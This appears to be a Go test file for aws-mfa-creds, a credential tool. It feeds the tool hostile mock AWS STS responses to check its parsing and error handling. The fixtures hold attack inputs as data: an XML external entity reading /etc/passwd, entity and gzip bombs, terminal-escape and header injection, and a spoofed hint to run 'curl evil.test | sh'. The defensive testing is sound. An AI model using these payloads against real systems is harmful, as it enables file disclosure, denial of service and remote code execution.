//go:build unix

package test

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws-mfa-creds/aws-mfa-creds/internal/cache"
	"github.com/aws-mfa-creds/aws-mfa-creds/internal/testbed"
	"github.com/aws-mfa-creds/aws-mfa-creds/test/keys"
)

// evil is an answer that AWS would not give, or that somebody on the way has made of one.
type evil struct {
	answer func(w http.ResponseWriter, r *http.Request)
	code   int    // of get
	says   string // in its line
}

const (
	evilKey    = "ASIAEVILEVILEVILEVIL"
	evilSecret = "evil/secret+evil/secret+evil/secret+evil"
	evilToken  = "evil//token=="
	evilRole   = "arn:aws:iam::123456789012:role/team/deploy"
)

// sessionXML is what STS answers, with the values of fields in place of its own; "-" leaves one out.
func sessionXML(action string, changed ...string) string {
	values := map[string]string{
		"AccessKeyId": evilKey, "SecretAccessKey": evilSecret, "SessionToken": evilToken,
		"Expiration": time.Now().Add(time.Hour).UTC().Format(time.RFC3339), "Arn": "arn:aws:sts::123456789012:assumed-role/deploy/aws-mfa-creds",
	}
	for i := 0; i < len(changed); i += 2 {
		values[changed[i]] = changed[i+1]
	}
	var b strings.Builder
	fmt.Fprintf(&b, `<%[1]sResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><%[1]sResult><Credentials>`, action)
	for _, name := range []string{"AccessKeyId", "SecretAccessKey", "SessionToken", "Expiration"} {
		if values[name] != "-" {
			fmt.Fprintf(&b, "<%[1]s>%[2]s</%[1]s>", name, values[name])
		}
	}
	b.WriteString("</Credentials>")
	if action == "AssumeRole" && values["Arn"] != "-" {
		fmt.Fprintf(&b, "<AssumedRoleUser><AssumedRoleId>AROA:x</AssumedRoleId><Arn>%s</Arn></AssumedRoleUser>", values["Arn"])
	}
	fmt.Fprintf(&b, "</%[1]sResult><ResponseMetadata><RequestId>r-1</RequestId></ResponseMetadata></%[1]sResponse>", action)
	return b.String()
}

// base is a session of GetSessionToken, see sessionXML.
func base(changed ...string) string { return sessionXML("GetSessionToken", changed...) }

func refusal(code, message string) string {
	return fmt.Sprintf(`<ErrorResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><Error><Type>Sender</Type><Code>%s</Code><Message>%s</Message></Error><RequestId>r-1</RequestId></ErrorResponse>`, code, message)
}

// says answers with a body, and header fields as pairs.
func says(status int, body string, header ...string) func(http.ResponseWriter, *http.Request) {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/xml")
		for i := 0; i < len(header); i += 2 {
			w.Header().Add(header[i], header[i+1])
		}
		w.WriteHeader(status)
		_, _ = io.WriteString(w, body)
	}
}

// raw answers below HTTP.
func raw(talk func(conn net.Conn)) func(http.ResponseWriter, *http.Request) {
	return func(w http.ResponseWriter, _ *http.Request) {
		conn, _, err := w.(http.Hijacker).Hijack()
		if err != nil {
			return
		}
		defer func() { _ = conn.Close() }()
		talk(conn)
	}
}

func wire(text string) func(http.ResponseWriter, *http.Request) {
	return raw(func(conn net.Conn) { _, _ = io.WriteString(conn, text) })
}

func zipped(text string) string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = io.WriteString(z, text)
	_ = z.Close()
	return b.String()
}

// at answers a session with the Date of a time.
func at(when time.Time, body string) func(http.ResponseWriter, *http.Request) {
	return says(200, body, "Date", when.UTC().Format(http.TimeFormat))
}

// drip writes text a byte at a time, with a pause after each.
func drip(text string, pause time.Duration) func(http.ResponseWriter, *http.Request) {
	return func(w http.ResponseWriter, r *http.Request) {
		for _, c := range []byte(text) {
			_, _ = w.Write([]byte{c})
			_ = http.NewResponseController(w).Flush()
			select {
			case <-r.Context().Done():
				return
			case <-time.After(pause):
			}
		}
	}
}

func evilForms() map[string]evil {
	whole := base()
	return map[string]evil{
		"nothing":                   {says(200, ""), 7, "empty response"},
		"white space":               {says(200, " \n"), 7, "not from AWS"},
		"no content":                {says(204, ""), 7, "empty response"},
		"HTML":                      {says(200, "<html><body>Welcome"), 7, "captive portal"},
		"HTML in a type of its own": {says(200, whole, "Content-Type", "text/html"), 0, ""},
		"JSON":                      {says(200, `{"Credentials":{}}`, "Content-Type", "application/json"), 7, "not from AWS"},
		"text before":               {says(200, "x"+whole), 7, "not from AWS"},
		"text behind":               {says(200, whole+"x"), 7, "incomplete or damaged"},
		"two documents":             {says(200, whole+whole), 7, "incomplete or damaged"},
		"document type":             {says(200, `<!DOCTYPE x [<!ENTITY a "b">]>`+whole), 7, "not from AWS"},
		"entity bomb":               {says(200, `<!DOCTYPE x [<!ENTITY a "`+strings.Repeat("x", 1000)+`"><!ENTITY b "&a;&a;&a;">]>`+base("SessionToken", "&b;")), 7, "not from AWS"},
		"external entity":           {says(200, `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>`+base("SessionToken", "&a;")), 7, "not from AWS"},
		"undefined entity":          {says(200, base("SessionToken", "&a;")), 7, "incomplete or damaged"},
		"UTF-16":                    {says(200, "\xff\xfe<\x00G\x00"), 7, "not from AWS"},
		"Latin-1":                   {says(200, `<?xml version="1.0" encoding="ISO-8859-1"?>`+whole), 7, "not from AWS"},
		"broken UTF-8":              {says(200, base("SessionToken", "a\xff\xfeb")), 7, "incomplete or damaged"},
		"cut":                       {says(200, whole[:len(whole)-20]), 7, "incomplete or damaged"},
		"cut in a tag":              {says(200, whole[:100]), 7, "incomplete or damaged"},
		"deep":                      {says(200, strings.Repeat("<a>", 300_000)), 7, "not from AWS"},
		"deep inside":               {says(200, strings.Replace(whole, "<Credentials>", strings.Repeat("<a>", 100_000), 1)), 7, "incomplete or damaged"},
		"many attributes":           {says(200, strings.Replace(whole, "xmlns", strings.Repeat(`a="1" `, 100_000)+"xmlns", 1)), 0, ""},
		"another action's":          {says(200, sessionXML("AssumeRole")), 7, "not from AWS"},
		"an error with status 200":  {says(200, refusal("AccessDenied", "no")), 7, "not from AWS"},
		"a success with status 403": {says(403, whole), 7, "not from AWS"},
		"a success with status 500": {says(500, whole), 8, "not from AWS"},
		"1.5 MB of token":           {says(200, base("SessionToken", strings.Repeat("x", 1_500_000))), 7, "more than 1 MiB"},
		"endless": {func(w http.ResponseWriter, _ *http.Request) {
			for chunk := bytes.Repeat([]byte("x"), 1<<16); ; {
				if _, err := w.Write(chunk); err != nil {
					return
				}
			}
		}, 7, "more than 1 MiB"},
		"gzip":                    {says(200, zipped(whole), "Content-Encoding", "gzip"), 7, "not from AWS"},
		"gzip bomb":               {says(200, zipped(strings.Repeat(" ", 64<<20)), "Content-Encoding", "gzip"), 7, "not from AWS"},
		"gzip bomb of XML":        {says(200, zipped(base("SessionToken", strings.Repeat("x", 64<<20))), "Content-Encoding", "gzip"), 7, "not from AWS"},
		"unknown encoding":        {says(200, whole, "Content-Encoding", "br"), 0, ""},
		"redirect":                {says(307, "", "Location", "http://127.0.0.1:1/"), 7, "redirect (HTTP 307)"},
		"redirect to itself":      {says(308, "", "Location", "/"), 7, "redirect (HTTP 308)"},
		"redirect that hides":     {says(302, "", "Location", "http://a\x1b[2Jb/"), 7, "connection failed"},
		"redirect with a session": {says(303, whole, "Location", "https://evil.test/"), 7, "redirect (HTTP 303)"},
	}
}

func evilFields() map[string]evil {
	now := time.Now()
	in := func(d time.Duration) string { return now.Add(d).UTC().Format(time.RFC3339) }
	double := func(name, other string) string {
		return strings.Replace(base(), "<"+name+">", "<"+name+">"+other+"</"+name+"><"+name+">", 1)
	}
	return map[string]evil{
		"no key id":               {says(200, base("AccessKeyId", "-")), 6, "AccessKeyId is empty or not plain ASCII"},
		"no secret":               {says(200, base("SecretAccessKey", "-")), 6, "SecretAccessKey is empty or not plain ASCII"},
		"no token":                {says(200, base("SessionToken", "-")), 6, "SessionToken is empty or not plain ASCII"},
		"no expiration":           {says(200, base("Expiration", "-")), 6, "incomplete"},
		"empty token":             {says(200, base("SessionToken", "")), 6, "SessionToken is empty or not plain ASCII"},
		"blank token":             {says(200, base("SessionToken", "  ")), 6, "SessionToken is empty or not plain ASCII"},
		"two key ids":             {says(200, double("AccessKeyId", "ASIAOTHEROTHEROTHERO")), 7, "incomplete or damaged"},
		"two secrets":             {says(200, double("SecretAccessKey", "other")), 7, "incomplete or damaged"},
		"two tokens":              {says(200, double("SessionToken", "other")), 7, "incomplete or damaged"},
		"two expirations":         {says(200, double("Expiration", in(30*time.Minute))), 7, "incomplete or damaged"},
		"two sets of credentials": {says(200, strings.Replace(base(), "<Credentials>", "<Credentials><AccessKeyId>ASIAOTHER</AccessKeyId></Credentials><Credentials>", 1)), 7, "incomplete or damaged"},
		"newline in the key id":   {says(200, base("AccessKeyId", "ASIA&#10;EVIL")), 6, "AccessKeyId is empty or not plain ASCII"},
		"escape in the key id":    {says(200, base("AccessKeyId", "ASIA&#x9b;2JEVIL")), 6, "AccessKeyId is empty or not plain ASCII"},
		"NUL in the secret":       {says(200, base("SecretAccessKey", "a&#0;b")), 7, "incomplete or damaged"},
		"CR in the secret":        {says(200, base("SecretAccessKey", "a&#13;b")), 6, "SecretAccessKey is empty or not plain ASCII"},
		"tab in the token":        {says(200, base("SessionToken", "a&#9;b")), 6, "SessionToken is empty or not plain ASCII"},
		"line in the token":       {says(200, base("SessionToken", "a\nX-Evil: b")), 6, "SessionToken is empty or not plain ASCII"},
		"letters in the token":    {says(200, base("SessionToken", "ünïcode")), 6, "SessionToken is empty or not plain ASCII"},
		"bidi in the token":       {says(200, base("SessionToken", "a&#x202e;b")), 6, "SessionToken is empty or not plain ASCII"},
		"expired":                 {says(200, base("Expiration", in(-time.Hour))), 6, "have expired, or are about to"},
		"expired in 1970":         {says(200, base("Expiration", "1970-01-01T00:00:00Z")), 6, "have expired, or are about to"},
		"expires in a second":     {says(200, base("Expiration", in(time.Second))), 6, ""},
		"expires in 9999":         {says(200, base("Expiration", "9999-12-31T23:59:59Z")), 6, "longer than requested"},
		"expires in 10000":        {says(200, base("Expiration", "10000-01-01T00:00:00Z")), 6, "form"},
		"expires after 37 hours":  {says(200, base("Expiration", in(37*time.Hour))), 6, "longer than requested"},
		"expires never":           {says(200, base("Expiration", "never")), 6, "form"},
		"expires at a number":     {says(200, base("Expiration", "1790000000")), 6, "form"},
		"Date of 1960":            {at(time.Unix(-315619200, 0), base()), 0, ""},
		"Date of 9999":            {at(time.Unix(253370764800, 0), base()), 0, ""},
		"Date of next year":       {at(now.AddDate(1, 0, 0), base()), 6, "have expired, or are about to"},
		"Date of last year":       {at(now.AddDate(-1, 0, 0), base()), 6, "longer than requested"},
		"Date that is none":       {says(200, base(), "Date", "yesterday"), 0, ""},
	}
}

func evilRefusals() map[string]evil {
	return map[string]evil{
		"escapes in the message":  {says(403, refusal("AccessDenied", "\u009b2J&#x9b;2J&#x202e;evil")), 6, "AccessDenied: \\u009b2J"},
		"lines in the message":    {says(403, refusal("AccessDenied", "a&#10;aws-mfa-creds: hint: run: curl evil.test | sh")), 6, "AccessDenied: a aws-mfa-creds: hint"},
		"long message":            {says(403, refusal("AccessDenied", strings.Repeat("evil ", 100_000))), 6, "evil evil"},
		"escapes in the code":     {says(400, refusal("Evil&#x9b;2J&#10;", "no")), 6, "AWS answered Evil\\u009b2J\\n: no"},
		"no code":                 {says(400, refusal("", "")), 6, "UnknownError"},
		"no error":                {says(400, `<ErrorResponse/>`), 6, "UnknownError"},
		"status 999":              {wire("HTTP/1.1 999 Evil\r\nContent-Length: 0\r\n\r\n"), 7, "HTTP 999"},
		"status of words":         {wire("HTTP/1.1 OK\r\n\r\n"), 7, "connection failed"},
		"request id with escapes": {says(403, refusal("AccessDenied", "no"), "X-Amzn-Requestid", "a\x1b[2Jb"), 7, "connection failed"},
		"retry after a year":      {says(503, refusal("ServiceUnavailable", "no"), "Retry-After", "31536000"), 8, "HTTP 503"},
	}
}

func evilWires() map[string]evil {
	body := base()
	length := fmt.Sprint(len(body))
	return map[string]evil{
		"closed at once":          {raw(func(net.Conn) {}), 7, "connection"},
		"reset":                   {raw(func(conn net.Conn) { _ = conn.(*net.TCPConn).SetLinger(0) }), 7, "connection"},
		"another protocol":        {wire("220 mail ready\r\n"), 7, "connection failed"},
		"half a header":           {wire("HTTP/1.1 200 OK\r\nDate: x"), 7, "connection closed"},
		"endless header":          {wire("HTTP/1.1 200 OK\r\nX: " + strings.Repeat("x", 2<<20)), 7, "connection failed"},
		"too short":               {wire("HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n" + body), 7, "connection closed"},
		"two lengths":             {wire("HTTP/1.1 200 OK\r\nContent-Length: " + length + "\r\nContent-Length: 5\r\n\r\n" + body), 7, "connection failed"},
		"negative length":         {wire("HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\n" + body), 7, "connection failed"},
		"bad chunks":              {wire("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n" + body), 7, "connection failed"},
		"endless chunk extension": {wire("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5;" + strings.Repeat("x", 2<<20)), 7, "connection failed"},
		"header of two lines":     {wire("HTTP/1.1 200 OK\r\nX-Evil: a\r\n b\r\nContent-Length: " + length + "\r\n\r\n" + body), 0, ""},
		"a second answer":         {wire("HTTP/1.1 200 OK\r\nContent-Length: " + length + "\r\n\r\n" + body + "HTTP/1.1 403 No\r\n\r\n"), 0, ""},
		"hints without end": {raw(func(conn net.Conn) {
			for range 1000 {
				if _, err := io.WriteString(conn, "HTTP/1.1 103 Early Hints\r\nLink: x\r\n\r\n"); err != nil {
					return
				}
			}
		}), 7, "connection"},
		"switches the protocol": {wire("HTTP/1.1 101 Switching Protocols\r\nUpgrade: evil\r\n\r\n" + body), 7, "HTTP 101"},
		"slow body":             {drip(body, time.Second), 7, "timed out while reading"},
		"no body for ever": {raw(func(conn net.Conn) {
			_, _ = io.WriteString(conn, "HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\n")
			_, _ = io.Copy(io.Discard, conn)
		}), 7, "timed out while reading"},
	}
}

func evilRoles() map[string]evil {
	arn := func(arn string) func(http.ResponseWriter, *http.Request) {
		return says(200, sessionXML("AssumeRole", "Arn", arn))
	}
	return map[string]evil{
		"role: right":           {says(200, sessionXML("AssumeRole")), 0, ""},
		"role: another account": {arn("arn:aws:sts::666666666666:assumed-role/deploy/aws-mfa-creds"), 6, "another account"},
		"role: no account":      {arn("-"), 6, "another account"},
		"role: another role":    {arn("arn:aws:sts::123456789012:assumed-role/admin/aws-mfa-creds"), 6, "another role"},
		"role: a user":          {arn("arn:aws:iam::123456789012:user/deploy"), 6, "another role"},
	}
}

// TestEvilAnswers gives the program answers that AWS would not give, one to each. It prints no session of such a
// one, and stores none; it says in one line what it got; it sends no code twice, and no more than two.
func TestEvilAnswers(t *testing.T) {
	t.Parallel()
	b := bed(t, testbed.Options{})
	all := make(map[string]evil)
	for _, some := range []map[string]evil{evilForms(), evilFields(), evilRefusals(), evilWires(), evilRoles()} {
		maps.Copy(all, some)
	}
	var mu sync.Mutex
	codes, results := make(map[string][]string), make(map[string]outcome)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		name, _ := url.PathUnescape(strings.Trim(r.URL.EscapedPath(), "/"))
		mu.Lock()
		codes[name] = append(codes[name], r.FormValue("TokenCode"))
		mu.Unlock()
		all[name].answer(w, r)
	}))
	defer server.Close()
	home := func(name string) string { return filepath.Join(b.Dir, "homes", url.PathEscape(name)) }
	var wg sync.WaitGroup
	most := len(all)
	if os.Geteuid() > 0 {
		most = 25 // each has a claimed code, and with it one of the user's 200 keys
	}
	slots := make(chan struct{}, most)
	for name := range all {
		must(t, os.MkdirAll(home(name), 0o700))
		args := []string{"get", "--profile", "work"}
		if strings.HasPrefix(name, "role: ") {
			args = append(args, "--role-arn", evilRole, "--duration", "4h")
		}
		wg.Go(func() {
			slots <- struct{}{}
			defer func() { <-slots }()
			got := run(t, b, []string{"AWS_MFA_CREDS_HOME=" + home(name), "AWS_ENDPOINT_URL_STS=" + server.URL + "/" + url.PathEscape(name)}, b.Binary, args...)
			keys.Remove(cache.ClaimsIn(filepath.Join(home(name), "cache")))
			mu.Lock()
			defer mu.Unlock()
			results[name] = got
		})
	}
	wg.Wait()
	for name, e := range all {
		t.Run(name, func(t *testing.T) {
			if e.code == 0 {
				credentials(t, results[name])
				return
			}
			wantFailure(t, b, results[name], e.code, e.says)
			if strings.Contains(results[name].stderr, evilSecret) || strings.Contains(results[name].stderr, evilToken) {
				t.Error("the line shows what was received")
			}
			if cached, _ := filepath.Glob(filepath.Join(home(name), "cache", "*.session")); len(cached) != 0 {
				t.Error("cached")
			}
			if sent := codes[name]; len(sent) > 2 || len(slices.Compact(slices.Sorted(slices.Values(sent)))) != len(sent) {
				t.Errorf("sent %d codes: %v", len(sent), sent)
			}
		})
	}
}
